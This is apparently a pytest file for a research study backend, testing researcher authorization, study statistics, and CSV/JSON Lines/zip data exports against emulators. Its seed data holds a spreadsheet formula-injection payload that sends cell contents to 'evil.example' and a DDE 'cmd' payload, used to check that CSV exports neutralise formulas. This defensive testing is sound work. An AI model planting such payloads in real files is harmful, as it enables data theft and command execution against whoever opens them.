"""Researchers over HTTP (SPEC §10): get_study_stats and export_data served by
gunicorn, against the stack's PostgreSQL, Auth and Firestore emulators. A study
is seeded through the functions (sessions, responses, a registration that takes a
guest's number, a claim that merges one, an upload through the trigger), its days
spread by setting created_at in PostgreSQL; every figure and every exported row
is compared with what the test made, stated here, never with another answer."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import threading
import time
import zipfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

import requests
from sqlalchemy import text

from devtools.stack import BUCKET
from shared.ops import cli
from shared.visitors.uploads import upload_id
from tests.support import assert_error, new_guest_key, register, rows, scalar


def today():
    """Today (UTC) when a test asks, not when the module was collected: a suite collected before
    midnight runs this file after it (the daily figures' dates then differed by a day)."""
    return datetime.now(UTC).date()


# created_at of the seeded sessions: days ago, at noon UTC.
DAYS_AGO = {"g1-first": 40, "g1-second": 3, "g2": 3, "u2-own": 2, "g3": 1, "b": 0, "none": 0, "empty": 5}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@dataclass
class Study:
    """What the seed made, by name."""

    sessions: dict[str, str] = field(default_factory=dict)  # name -> sessionId
    numbers: dict[str, int] = field(default_factory=dict)  # visitor -> visitor number when created
    secrets: list[str] = field(default_factory=list)  # what must never be in an export
    upload_id: str | None = None


def moment(days_ago: int, minutes: int = 0) -> datetime:
    day = today() - timedelta(days=days_ago)
    return datetime(day.year, day.month, day.day, 12, tzinfo=UTC) + timedelta(minutes=minutes)


def seed(world, auth_emulator, db) -> Study:
    """Experiment "a": guest g1 (two sessions, one 40 days ago), guest g2 who registers as
    a new user u1 (u1 takes g2's number), user u2 with a session of its own who then
    claims guest g3 (g3's number is merged into u2's), a session without responses,
    one upload. Experiment "b": one guest session. One session without an experimentId."""
    api, study = world.api, Study()
    keys = {name: new_guest_key() for name in ("g1", "g2", "g3", "gb", "gn")}
    study.secrets += list(keys.values())

    def session(name, key=None, token=None, experiment="a", metadata=None):
        answer = api.post(
            "create_session", {"experimentId": experiment, "metadata": metadata or {"n": name}}, guest=key, token=token
        )
        assert answer.status_code == 201, answer.text
        study.sessions[name] = answer.json()["sessionId"]
        return answer.json()

    def respond(name, level, data, key=None, token=None):
        answer = api.post(
            "submit_response", {"sessionId": study.sessions[name], "level": level, "data": data}, guest=key, token=token
        )
        assert answer.status_code == 201, answer.text

    study.numbers["g1"] = session("g1-first", keys["g1"])["visitorNumber"]
    respond("g1-first", 0, {"q": 1}, keys["g1"])
    respond("g1-first", 1, {"q": 2}, keys["g1"])
    respond("g1-first", 2, FORMULA, keys["g1"])
    session("g1-second", keys["g1"], metadata={"lead": "-1+1", "tag": "@x"})
    respond("g1-second", 0, -5, keys["g1"])
    study.numbers["g2"] = session("g2", keys["g2"])["visitorNumber"]
    respond("g2", 0, "first", keys["g2"])
    respond("g2", 1, None, keys["g2"])
    u1 = auth_emulator.new_user()
    assert register(api, user=u1, guest=keys["g2"]).status_code == 201
    u2 = auth_emulator.new_user()
    study.numbers["u2"] = session("u2-own", token=u2.id_token)["visitorNumber"]
    respond("u2-own", 0, {"u2": True}, token=u2.id_token)
    study.numbers["g3"] = session("g3", keys["g3"])["visitorNumber"]
    respond("g3", 0, {"g3": 1}, keys["g3"])
    respond("g3", 3, {"g3": 2}, keys["g3"])  # levels 1 and 2 skipped
    assert register(api, user=u2, guest=keys["g3"]).status_code == 200
    session("empty", keys["g1"])
    session("b", keys["gb"], experiment="b")
    respond("b", 0, {"b": 1}, keys["gb"])
    session("none", keys["gn"], experiment=None)
    study.secrets += [u1.uid, u2.uid, u1.email, u2.email]
    study.secrets += [str(g.id) for g in rows(db, "SELECT id FROM guests")]
    study.secrets += [g.key_hash.hex() for g in rows(db, "SELECT key_hash FROM guests")]
    item = world.upload(study.sessions["g3"], "photo.png", b"\x89PNG fake", "=cmd|' /c calc'!a0")
    assert world.deliver(item).status_code < 300
    [upload] = [doc for doc in world.firestore.collection("uploads").stream()]
    study.upload_id = upload.id
    with db.begin() as conn:  # spread the sessions and their responses over days
        for name, days in DAYS_AGO.items():
            conn.execute(
                text("UPDATE sessions SET created_at = :t WHERE id = :id"),
                {"t": moment(days), "id": study.sessions[name]},
            )
            conn.execute(
                text(
                    "UPDATE responses SET created_at = CAST(:t AS timestamptz) + (level + 1) * interval '1 minute' "
                    "WHERE session_id = :id"
                ),
                {"t": moment(days), "id": study.sessions[name]},
            )
    return study


def stats(api, token, **params):
    return requests.get(
        api.url("get_study_stats"), params=params, timeout=30, headers={"Authorization": f"Bearer {token}"}
    )


def export(api, token, **params):
    return requests.get(
        api.url("export_data"), params=params, timeout=120, headers={"Authorization": f"Bearer {token}"}
    )


def day(days_ago: int) -> str:
    return (today() - timedelta(days=days_ago)).isoformat()


def daily(**figures) -> list[dict]:
    """The 30 days, all zero but those given as d<days ago>=(newVisitors, sessions, responses)."""
    out = []
    for ago in range(29, -1, -1):
        new, sessions, responses = figures.get(f"d{ago}", (0, 0, 0))
        out.append({"date": day(ago), "newVisitors": new, "sessions": sessions, "responses": responses})
    return out


def utc(days_ago: int) -> str:
    return moment(days_ago).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


# --- Authorization ---------------------------------------------------------------


def test_researcher_functions_refuse_everyone_else(api, auth_emulator):
    for function in ("get_study_stats", "export_data"):
        assert_error(requests.get(api.url(function), timeout=10), 401, "unauthenticated")
        assert_error(
            requests.get(api.url(function), headers={"X-Guest-Key": new_guest_key()}, timeout=10),
            401,
            "unauthenticated",
        )
        plain = auth_emulator.new_user()
        error = assert_error(
            requests.get(api.url(function), timeout=10, headers={"Authorization": f"Bearer {plain.id_token}"}),
            403,
            "permission_denied",
        )
        assert "researcher" in error["message"]
        for claim in (False, "yes", [], [""], {"a": True}):
            odd = auth_emulator.researcher(claim)
            assert_error(
                requests.get(api.url(function), timeout=10, headers={"Authorization": f"Bearer {odd.id_token}"}),
                403,
                "permission_denied",
            )


def test_a_scoped_researcher_sees_only_its_experiments(uploads_world, auth_emulator, db):
    seed(uploads_world, auth_emulator, db)
    api = uploads_world.api
    scoped = auth_emulator.researcher(["a", "c"])
    answer = stats(api, scoped.id_token)
    assert answer.status_code == 200, answer.text
    assert [e["experimentId"] for e in answer.json()["experiments"]] == ["a"]  # c has no sessions
    assert [e["experimentId"] for e in stats(api, scoped.id_token, experimentId="a").json()["experiments"]] == ["a"]
    for refused in ({"experimentId": "b"}, {"experimentId": ""}, {"experimentId": ["a", "b"]}):
        error = assert_error(stats(api, scoped.id_token, **refused), 403, "permission_denied")
        assert "covers only the experiments a, c" in error["message"]
        assert_error(export(api, scoped.id_token, **refused), 403, "permission_denied")
    archive = zipfile.ZipFile(io.BytesIO(export(api, scoped.id_token).content))
    experiments = {row["experimentId"] for row in csv.DictReader(io.StringIO(archive.read("sessions.csv").decode()))}
    assert experiments == {"a"}
    everything = auth_emulator.researcher(True)
    listed = [e["experimentId"] for e in stats(api, everything.id_token).json()["experiments"]]
    assert listed == ["a", "b", None]


def test_granting_and_revoking_the_claim_with_the_command(api, auth_emulator, stack, monkeypatch, capsys):
    for name, value in stack.env().items():
        monkeypatch.setenv(name, value)
    user = auth_emulator.new_user()
    assert_error(stats(api, user.id_token), 403, "permission_denied")
    assert cli.run("researchers", ["grant", user.email, "--experiments", "b,a"]) == 0
    assert cli.run("researchers", ["list"]) == 0
    assert f"{user.email}\texperiments a, b" in capsys.readouterr().out
    assert_error(stats(api, user.id_token), 403, "permission_denied")  # the old token has no claim
    granted = auth_emulator.sign_in(user.email)
    assert stats(api, granted.id_token).status_code == 200
    assert_error(stats(api, granted.id_token, experimentId="z"), 403, "permission_denied")
    assert cli.run("researchers", ["grant", user.email]) == 0  # every experiment now
    everything = auth_emulator.sign_in(user.email)
    assert stats(api, everything.id_token, experimentId="z").status_code == 200
    # Firebase revokes the tokens issued before the revocation's second (iat < validSince):
    # wait until the clock has passed the second this token was issued in.
    issued = json.loads(base64.urlsafe_b64decode(everything.id_token.split(".")[1] + "=="))["iat"]
    while time.time() < issued + 1:
        time.sleep(0.05)
    assert cli.run("researchers", ["revoke", user.email]) == 0
    assert_error(stats(api, everything.id_token), 401, "unauthenticated")  # its tokens are revoked
    assert_error(stats(api, auth_emulator.sign_in(user.email).id_token), 403, "permission_denied")
    assert cli.run("researchers", ["grant", "nobody-at-all@example.com"]) == 1
    assert "No Firebase user" in capsys.readouterr().err


def test_bad_queries_are_400(api, auth_emulator):
    token = auth_emulator.researcher(True).id_token
    for params in (
        {"experimentId": "a b"},
        {"format": "xml"},
        {"format": "zip", "table": "responses"},
        {"format": "csv", "table": "users"},
        {"from": "yesterday"},
        {"from": "2026-12-01"},
        {"from": "2026-12-02T00:00:00Z", "to": "2026-12-01T00:00:00Z"},
        {"email": "x"},
        {"format": ["csv", "jsonl"]},
    ):
        assert_error(export(api, token, **params), 400, "invalid_argument")
    assert_error(stats(api, token, format="csv"), 400, "invalid_argument")


# --- get_study_stats ---------------------------------------------------------------


def test_the_figures_of_a_seeded_study(uploads_world, auth_emulator, db):
    seed(uploads_world, auth_emulator, db)
    answer = stats(uploads_world.api, auth_emulator.researcher(True).id_token)
    assert answer.status_code == 200, answer.text
    body = answer.json()
    generated = datetime.fromisoformat(body["generatedAt"])
    assert abs(generated - datetime.now(UTC)) < timedelta(minutes=1)
    a, b, none = body["experiments"]
    # Visitors of a: g1, u1 (was g2), u2 (claimed g3): 3, two of them registered.
    # Sessions: g1-first, g1-second, g2, u2-own, g3, empty: 6; responses 3+1+2+1+2 = 9.
    assert a == {
        "experimentId": "a",
        "visitors": 3,
        "registeredVisitors": 2,
        "sessions": 6,
        "responses": 9,
        "uploads": 1,
        "firstSessionAt": utc(40),
        "lastSessionAt": utc(1),
        # highest levels: g1-first 2, g1-second 0, g2 1, u2-own 0, g3 3 (reached 0 and 3 only); empty none
        "levels": [
            {"level": 0, "sessions": 5},
            {"level": 1, "sessions": 3},
            {"level": 2, "sessions": 2},
            {"level": 3, "sessions": 1},
        ],
        # g1 is new 40 days ago (outside the 30 days); u1 (g2's sessions) 3 days ago; u2 2 days ago
        # (g3's session of 1 day ago is u2's now)
        "daily": daily(d5=(0, 1, 0), d3=(1, 2, 3), d2=(1, 1, 1), d1=(0, 1, 2)),
    }
    assert b == {
        "experimentId": "b",
        "visitors": 1,
        "registeredVisitors": 0,
        "sessions": 1,
        "responses": 1,
        "uploads": 0,
        "firstSessionAt": utc(0),
        "lastSessionAt": utc(0),
        "levels": [{"level": 0, "sessions": 1}],
        "daily": daily(d0=(1, 1, 1)),
    }
    assert none == {
        "experimentId": None,
        "visitors": 1,
        "registeredVisitors": 0,
        "sessions": 1,
        "responses": 0,
        "uploads": 0,
        "firstSessionAt": utc(0),
        "lastSessionAt": utc(0),
        "levels": [],
        "daily": daily(d0=(1, 1, 0)),
    }
    only_none = stats(uploads_world.api, auth_emulator.researcher(True).id_token, experimentId="").json()
    assert only_none["experiments"] == [none]


def test_no_sessions_no_experiments(api, auth_emulator):
    answer = stats(api, auth_emulator.researcher(True).id_token)
    assert answer.status_code == 200
    assert answer.json()["experiments"] == []


# --- export_data ---------------------------------------------------------------------


def expected_tables(study: Study, db, at: datetime) -> dict[str, list[dict]]:
    """Every table's rows as SPEC §10 states them, as JSON values, from what the seed made; the
    sessions' status as of `at` (none of them is configured: a lease of 60 minutes)."""
    s = study.sessions
    number = {"g1": study.numbers["g1"], "u1": study.numbers["g2"], "u2": study.numbers["u2"]}
    owner = {"g1-first": "g1", "g1-second": "g1", "empty": "g1", "g2": "u1", "u2-own": "u2", "g3": "u2"}
    responses_of = {
        "g1-first": [(0, {"q": 1}), (1, {"q": 2}), (2, FORMULA)],
        "g1-second": [(0, -5)],
        "g2": [(0, "first"), (1, None)],
        "u2-own": [(0, {"u2": True})],
        "g3": [(0, {"g3": 1}), (3, {"g3": 2})],
        "b": [(0, {"b": 1})],
    }
    ids = {(str(r.session_id), r.level): str(r.id) for r in rows(db, "SELECT id, session_id, level FROM responses")}
    experiment = {name: "a" for name in owner} | {"b": "b", "none": None}
    visitor_number = {name: number[who] for name, who in owner.items()}
    visitor_number |= {
        name: scalar(db, "SELECT visitor_number FROM sessions WHERE id = :id", id=s[name]) for name in ("b", "none")
    }
    registered = {name: owner.get(name, "").startswith("u") for name in experiment}

    def latest(name: str) -> datetime:  # its start or its latest response
        return moment(DAYS_AGO[name], max((level + 1 for level, _ in responses_of.get(name, [])), default=0))

    responses = [
        {
            "responseId": ids[(s[name], level)],
            "sessionId": s[name],
            "visitorNumber": visitor_number[name],
            "experimentId": experiment[name],
            "level": level,
            "createdAt": (moment(DAYS_AGO[name], level + 1)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"),
            "data": data,
        }
        for name, answers in responses_of.items()
        for level, data in answers
    ]
    metadata = {name: {"n": name} for name in experiment} | {"g1-second": {"lead": "-1+1", "tag": "@x"}}
    sessions = [
        {
            "sessionId": s[name],
            "visitorNumber": visitor_number[name],
            "experimentId": experiment[name],
            "registered": registered[name],
            "createdAt": utc(DAYS_AGO[name]),
            "responseCount": len(responses_of.get(name, [])),
            "maxLevel": max((level for level, _ in responses_of.get(name, [])), default=None),
            "uploadCount": 1 if name == "g3" else 0,
            "metadata": metadata[name],
            "condition": None,
            "status": "started" if latest(name) + timedelta(minutes=60) > at else "abandoned",
            "outcome": None,
            "completedAt": None,
            "platform": "none",
            "test": False,
        }
        for name in experiment
    ]
    visitors = [
        {
            "visitorNumber": number["g1"],
            "registered": False,
            "firstSessionAt": utc(40),
            "sessionCount": 3,
            "mergedFromVisitorNumbers": [],
        },
        {
            "visitorNumber": number["u1"],
            "registered": True,
            "firstSessionAt": utc(3),
            "sessionCount": 1,
            "mergedFromVisitorNumbers": [],
        },
        {
            "visitorNumber": number["u2"],
            "registered": True,
            "firstSessionAt": utc(2),
            "sessionCount": 2,
            "mergedFromVisitorNumbers": [study.numbers["g3"]],
        },
        {
            "visitorNumber": visitor_number["b"],
            "registered": False,
            "firstSessionAt": utc(0),
            "sessionCount": 1,
            "mergedFromVisitorNumbers": [],
        },
        {
            "visitorNumber": visitor_number["none"],
            "registered": False,
            "firstSessionAt": utc(0),
            "sessionCount": 1,
            "mergedFromVisitorNumbers": [],
        },
    ]
    upload = {
        "uploadId": study.upload_id,
        "sessionId": s["g3"],
        "visitorNumber": number["u2"],
        "experimentId": "a",
        "name": f"sessions/{s['g3']}/photo.png",
        "contentType": "=cmd|' /c calc'!a0",
        "size": 9,
    }
    return {"responses": responses, "sessions": sessions, "visitors": visitors, "uploads": [upload]}


def by_key(table: str, items: list[dict]) -> list[dict]:
    key = {"responses": "responseId", "sessions": "sessionId", "uploads": "uploadId"}.get(table)
    if key is None:
        return sorted(items, key=lambda v: (v["visitorNumber"] is None, v["visitorNumber"] or 0))
    return sorted(items, key=lambda item: item[key])


JSON_COLUMNS = {"responses": ("data",), "sessions": ("metadata",), "visitors": ("mergedFromVisitorNumbers",)}
NUMBERS = ("visitorNumber", "level", "responseCount", "maxLevel", "uploadCount", "sessionCount", "size")


def csv_as_json(table: str, text: str) -> list[dict]:
    """CSV rows turned back into JSON values: numbers, booleans, JSON text, empty cells as null,
    with the formula guard (a leading apostrophe) taken off."""
    out = []
    for row in csv.DictReader(io.StringIO(text)):
        item = {}
        for column, cell in row.items():
            if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r"):
                cell = cell[1:]
            if cell == "":
                item[column] = None
            elif column in JSON_COLUMNS.get(table, ()):
                item[column] = json.loads(cell)
            elif column in NUMBERS:
                item[column] = int(cell)
            elif column in ("registered", "test"):
                item[column] = {"true": True, "false": False}[cell]
            else:
                item[column] = cell
        out.append(item)
    return out


def test_the_zip_holds_every_table_exactly_and_nothing_personal(uploads_world, auth_emulator, db):
    study = seed(uploads_world, auth_emulator, db)
    token = auth_emulator.researcher(True).id_token
    answer = export(uploads_world.api, token)
    assert answer.status_code == 200, answer.text
    assert answer.headers["Content-Type"] == "application/zip"
    assert answer.headers["Transfer-Encoding"] == "chunked"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="study-export-')
    everything = answer.content
    for secret in study.secrets:
        assert secret.encode() not in everything  # compressed: checked again uncompressed below
    archive = zipfile.ZipFile(io.BytesIO(everything))
    assert archive.namelist() == ["responses.csv", "sessions.csv", "visitors.csv", "uploads.csv", "manifest.json"]
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["schemaVersion"] == 2 and manifest["participantIds"] is False
    assert manifest["filters"] == {"experimentIds": "all", "from": None, "to": None, "includeTest": False}
    expected = expected_tables(study, db, datetime.fromisoformat(manifest["exportedAt"]))
    for table in ("responses", "sessions", "visitors", "uploads"):
        content = archive.read(f"{table}.csv")
        for secret in study.secrets:
            assert secret.encode() not in content
        assert manifest["files"][f"{table}.csv"] == {
            "rows": len(expected[table]),
            "bytes": len(content),
            "sha256": hashlib.sha256(content).hexdigest(),
        }
        header = content.decode().split("\n", 1)[0]
        assert header == ",".join(expected_columns(table))
        assert by_key(table, _no_upload_time(csv_as_json(table, content.decode()))) == by_key(
            table, _no_upload_time(expected[table])
        )
    # The same tables as JSON Lines: the same rows, and the formula verbatim.
    for table in ("responses", "sessions", "visitors", "uploads"):
        expected = expected_tables(study, db, datetime.now(UTC))
        lines = export(uploads_world.api, token, format="jsonl", table=table)
        assert lines.status_code == 200 and lines.headers["Content-Type"] == "application/x-ndjson"
        assert lines.headers["Content-Disposition"].startswith(f'attachment; filename="{table}-')
        items = [json.loads(line) for line in lines.text.splitlines()]
        assert all(list(item) == expected_columns(table) for item in items)
        assert by_key(table, _no_upload_time(items)) == by_key(table, _no_upload_time(expected[table]))
        as_csv = export(uploads_world.api, token, format="csv", table=table)
        assert as_csv.headers["Content-Type"].startswith("text/csv")
        assert by_key(table, _no_upload_time(csv_as_json(table, as_csv.text))) == by_key(table, _no_upload_time(items))
    [upload] = [
        json.loads(line) for line in export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()
    ]
    assert upload["gsUri"] == f"gs://{uploads_world.bucket.name}/sessions/{study.sessions['g3']}/photo.png"
    assert datetime.fromisoformat(upload["uploadedAt"]) <= datetime.now(UTC)


def expected_columns(table: str) -> list[str]:
    """SPEC §10's columns, as the SPEC lists them."""
    return {
        "responses": ["responseId", "sessionId", "visitorNumber", "experimentId", "level", "createdAt", "data"],
        "sessions": [
            "sessionId",
            "visitorNumber",
            "experimentId",
            "registered",
            "createdAt",
            "responseCount",
            "maxLevel",
            "uploadCount",
            "metadata",
            *("condition", "status", "outcome", "completedAt", "platform", "test"),  # SPEC §14.7
        ],
        "visitors": ["visitorNumber", "registered", "firstSessionAt", "sessionCount", "mergedFromVisitorNumbers"],
        "uploads": [
            "uploadId",
            "sessionId",
            "visitorNumber",
            "experimentId",
            "name",
            "contentType",
            "size",
            "uploadedAt",
            "gsUri",
        ],
    }[table]


def _no_upload_time(items: list[dict]) -> list[dict]:
    """Uploads without the times the emulator chose (checked on their own)."""
    return [{k: v for k, v in item.items() if k not in ("uploadedAt", "gsUri")} for item in items]


def test_formulas_are_neutralised_in_csv_and_verbatim_in_jsonl(uploads_world, auth_emulator, db):
    seed(uploads_world, auth_emulator, db)
    token = auth_emulator.researcher(True).id_token
    responses = list(csv.reader(io.StringIO(export(uploads_world.api, token, format="csv").text)))
    data = {row[0]: row[6] for row in responses[1:]}
    cells = set(data.values())
    # A JSON string is written as JSON text, quotes included: no spreadsheet runs it.
    assert json.dumps(FORMULA) in cells
    assert "'-5" in cells and "-5" not in cells  # a negative number starts with a minus: guarded
    assert all(cell[:1] not in ("=", "+", "-", "@") for row in responses for cell in row)
    uploads = list(csv.reader(io.StringIO(export(uploads_world.api, token, format="csv", table="uploads").text)))
    assert uploads[1][5] == "'=cmd|' /c calc'!a0"
    sessions = list(csv.reader(io.StringIO(export(uploads_world.api, token, format="csv", table="sessions").text)))
    assert all(cell[:1] not in ("=", "+", "-", "@") for row in sessions for cell in row)
    jsonl = [json.loads(line) for line in export(uploads_world.api, token, format="jsonl").text.splitlines()]
    assert FORMULA in [item["data"] for item in jsonl] and -5 in [item["data"] for item in jsonl]
    [upload] = [
        json.loads(line) for line in export(uploads_world.api, token, format="jsonl", table="uploads").text.splitlines()
    ]
    assert upload["contentType"] == "=cmd|' /c calc'!a0"


def test_filters_select_exactly(uploads_world, auth_emulator, db):
    study = seed(uploads_world, auth_emulator, db)
    token = auth_emulator.researcher(True).id_token
    s = study.sessions

    def sessions(**params):
        answer = export(uploads_world.api, token, format="jsonl", table="sessions", **params)
        assert answer.status_code == 200, answer.text
        return {line["sessionId"] for line in map(json.loads, answer.text.splitlines())}

    assert sessions(experimentId="b") == {s["b"]}
    assert sessions(experimentId=["b", ""]) == {s["b"], s["none"]}
    assert sessions(experimentId=["a", "b"]) == {s[n] for n in s if n != "none"}
    assert sessions(experimentId="zzz") == set()
    # from inclusive, to exclusive, on the session's createdAt
    assert sessions(**{"from": utc(3), "to": utc(1)}) == {s["g1-second"], s["g2"], s["u2-own"]}
    assert sessions(**{"from": utc(1)}) == {s["g3"], s["b"], s["none"]}
    assert sessions(**{"to": utc(5)}) == {s["g1-first"]}
    assert sessions(experimentId="a", **{"from": utc(2)}) == {s["u2-own"], s["g3"]}
    responses = export(uploads_world.api, token, format="jsonl", experimentId="a", **{"from": utc(2)}).text
    assert {json.loads(line)["sessionId"] for line in responses.splitlines()} == {s["u2-own"], s["g3"]}
    archive = zipfile.ZipFile(io.BytesIO(export(uploads_world.api, token, experimentId="b", **{"to": utc(0)}).content))
    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["filters"] == {"experimentIds": ["b"], "from": None, "to": utc(0), "includeTest": False}
    assert {name: f["rows"] for name, f in manifest["files"].items()} == {
        "responses.csv": 0,
        "sessions.csv": 0,
        "visitors.csv": 0,
        "uploads.csv": 0,
    }


def test_an_export_is_one_snapshot_while_rows_are_written(uploads_world, auth_emulator, db):
    """Enough responses that the export waits for its slow client; meanwhile a new
    session with responses, and more responses to an old one, are committed. None of
    them is in any table of the export, and its tables agree with each other."""
    seed(uploads_world, auth_emulator, db)
    api, key = uploads_world.api, new_guest_key()
    old = api.post("create_session", {"experimentId": "a"}, guest=key).json()["sessionId"]
    with db.begin() as conn:
        # random text (md5 of random numbers): the zip cannot shrink it much, so it is far
        # larger than the export's queue and the sockets' buffers
        conn.execute(
            text(
                "INSERT INTO responses (id, session_id, visitor_number, level, data) "
                "SELECT gen_random_uuid(), s.id, s.visitor_number, 0, "
                "       to_jsonb(md5(random()::text) || md5(random()::text) || md5(random()::text)"
                "                || md5(random()::text) || md5(random()::text) || md5(random()::text)) "
                "FROM sessions s, generate_series(1, 60000) WHERE s.id = :id"
            ),
            {"id": old},
        )
    token = auth_emulator.researcher(True).id_token
    with requests.get(
        api.url("export_data"), headers={"Authorization": f"Bearer {token}"}, stream=True, timeout=120
    ) as answer:
        assert answer.status_code == 200
        body = answer.raw
        first = body.read(64 * 1024)  # the export has begun (its snapshot is taken)...
        new = api.post("create_session", {"experimentId": "a"}, guest=key).json()["sessionId"]
        for _ in range(3):
            assert api.post("submit_response", {"sessionId": old, "data": "later"}, guest=key).status_code == 201
            assert api.post("submit_response", {"sessionId": new, "data": "later"}, guest=key).status_code == 201
        # ...and has not ended: its transaction is still open, waiting for this client
        assert (
            scalar(
                db,
                "SELECT count(*) FROM pg_stat_activity WHERE backend_type = 'client backend' "
                "AND state IN ('active', 'idle in transaction') "
                "AND query LIKE '%export%' AND pid <> pg_backend_pid()",
            )
            == 1
        )
        content = first + body.read()
    archive = zipfile.ZipFile(io.BytesIO(content))
    responses = csv_as_json("responses", archive.read("responses.csv").decode())
    sessions = csv_as_json("sessions", archive.read("sessions.csv").decode())
    assert len(responses) == 9 + 1 + 60000
    assert "later" not in [r["data"] for r in responses]
    assert new not in {s["sessionId"] for s in sessions}
    counts = {s["sessionId"]: s["responseCount"] for s in sessions}
    assert counts[old] == 60000
    assert sum(counts.values()) == len(responses)
    assert scalar(db, "SELECT count(*) FROM responses") == len(responses) + 6


def test_the_four_tables_agree_in_one_snapshot_while_uploads_and_responses_are_written(
    uploads_world, auth_emulator, db
):
    """A writer thread keeps delivering upload events (to old sessions and new ones) and
    submitting responses while a zip is made for a slow client. Every table of the zip is of one
    snapshot: each upload's session is in sessions.csv with that upload counted, each session's
    counts are its rows, each visitor's sessions are its rows, and nothing the writer began after
    the export's first bytes is in it, while everything it finished before the request is."""
    world, key = uploads_world, new_guest_key()
    old = [world.new_session(guest=key, experiment_id="a")["sessionId"] for _ in range(2)]
    with db.begin() as conn:  # far more than the export's queue and the sockets' buffers hold
        conn.execute(
            text(
                "INSERT INTO responses (id, session_id, visitor_number, level, data) "
                "SELECT gen_random_uuid(), s.id, s.visitor_number, 0, "
                "       to_jsonb(md5(random()::text) || md5(random()::text) || md5(random()::text)"
                "                || md5(random()::text) || md5(random()::text) || md5(random()::text)) "
                "FROM sessions s, generate_series(1, 30000) WHERE s.id = ANY(CAST(:ids AS uuid[]))"
            ),
            {"ids": old},
        )
    phase = {"now": "before"}  # before the request, during its download, after its first bytes
    written: list[tuple[str, str, str, str]] = []  # (phase when begun, phase when done, kind, id)
    stop = threading.Event()

    def write() -> None:
        n = 0
        while not stop.is_set():
            began = phase["now"]
            session = old[n % 2] if n % 3 else world.new_session(guest=key, experiment_id="a")["sessionId"]
            item = world.upload(session, f"file-{n}.png", b"\x89PNG %d" % n, "image/png")
            assert world.deliver(item).status_code < 300
            written.append((began, phase["now"], "upload", upload_id_of(item)))
            answer = world.api.post("submit_response", {"sessionId": session, "data": f"w{n}"}, guest=key)
            assert answer.status_code == 201, answer.text
            written.append((began, phase["now"], "response", answer.json()["responseId"]))
            n += 1

    def wait_for(count: int) -> None:
        deadline = time.monotonic() + 60
        while len(written) < count and time.monotonic() < deadline and writer.is_alive():
            time.sleep(0.01)
        assert len(written) >= count, "the writer stopped"

    token = auth_emulator.researcher(True).id_token
    writer = threading.Thread(target=write, name="writer", daemon=True)
    writer.start()
    try:
        wait_for(6)
        phase["now"] = "during"
        with requests.get(
            world.api.url("export_data"), headers={"Authorization": f"Bearer {token}"}, stream=True, timeout=120
        ) as answer:
            assert answer.status_code == 200
            first = answer.raw.read(64 * 1024)  # the export's snapshot is taken, and it waits for this client
            phase["now"] = "after"
            wait_for(len(written) + 12)  # uploads and responses to old and new sessions meanwhile
            content = first + answer.raw.read()
    finally:
        stop.set()
        writer.join(timeout=60)
    archive = zipfile.ZipFile(io.BytesIO(content))
    tables = {
        t: csv_as_json(t, archive.read(f"{t}.csv").decode()) for t in ("responses", "sessions", "visitors", "uploads")
    }
    manifest = json.loads(archive.read("manifest.json"))
    assert {name: f["rows"] for name, f in manifest["files"].items()} == {f"{t}.csv": len(r) for t, r in tables.items()}

    sessions = {s["sessionId"]: s for s in tables["sessions"]}
    uploads, responses = tables["uploads"], tables["responses"]
    for upload in uploads:  # each upload's session is there, with its number
        assert sessions[upload["sessionId"]]["visitorNumber"] == upload["visitorNumber"]
        assert upload["experimentId"] == "a" and upload["gsUri"].endswith("/" + upload["name"])
    for response in responses:
        assert sessions[response["sessionId"]]["visitorNumber"] == response["visitorNumber"]
    for session_id, session in sessions.items():  # each session's counts are its rows
        assert session["uploadCount"] == sum(u["sessionId"] == session_id for u in uploads)
        assert session["responseCount"] == sum(r["sessionId"] == session_id for r in responses)
    for visitor in tables["visitors"]:
        assert visitor["sessionCount"] == sum(s["visitorNumber"] == visitor["visitorNumber"] for s in sessions.values())
    in_zip = {"upload": {u["uploadId"] for u in uploads}, "response": {r["responseId"] for r in responses}}
    assert all(item in in_zip[kind] for _, done, kind, item in written if done == "before")
    assert not any(item in in_zip[kind] for began, _, kind, item in written if began == "after")
    later = [item for began, _, kind, item in written if began == "after" and kind == "upload"]
    assert later and set(later) <= set(world.rows())  # ...which were recorded all the same
    assert len(uploads) < scalar(db, "SELECT count(*) FROM uploads")


def upload_id_of(item: dict) -> str:
    return upload_id(BUCKET, item["name"], int(item["generation"]))


def test_the_command_writes_the_bytes_the_function_answers(uploads_world, auth_emulator, db, stack, tmp_path):
    """python -m shared.export, run next to the database, with the same filters."""
    import subprocess
    import sys

    seed(uploads_world, auth_emulator, db)
    token = auth_emulator.researcher(True).id_token
    env = {**stack.env(), "PATH": "/usr/bin:/bin"}
    for table in ("responses", "sessions", "visitors", "uploads"):
        for format_ in ("csv", "jsonl"):
            out = tmp_path / f"{table}.{format_}"
            done = subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "shared.export",
                    "--out",
                    str(out),
                    "--format",
                    format_,
                    "--table",
                    table,
                    "--experiment",
                    "a",
                    "--experiment",
                    "",
                    "--from",
                    utc(40),
                ],
                env=env,
                capture_output=True,
                text=True,
                timeout=120,
            )
            assert done.returncode == 0, done.stderr
            answer = export(
                uploads_world.api, token, format=format_, table=table, experimentId=["a", ""], **{"from": utc(40)}
            )
            assert out.read_bytes() == answer.content and answer.content.count(b"\n") >= 1  # not empty
    zipped = tmp_path / "study.zip"
    assert (
        subprocess.run([sys.executable, "-m", "shared.export", "--out", str(zipped)], env=env, timeout=120).returncode
        == 0
    )
    assert zipfile.ZipFile(zipped).namelist() == [
        "responses.csv",
        "sessions.csv",
        "visitors.csv",
        "uploads.csv",
        "manifest.json",
    ]
    bad = subprocess.run(
        [sys.executable, "-m", "shared.export", "--out", str(zipped), "--format", "xml"],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert bad.returncode == 2 and "format must be one of" in bad.stderr
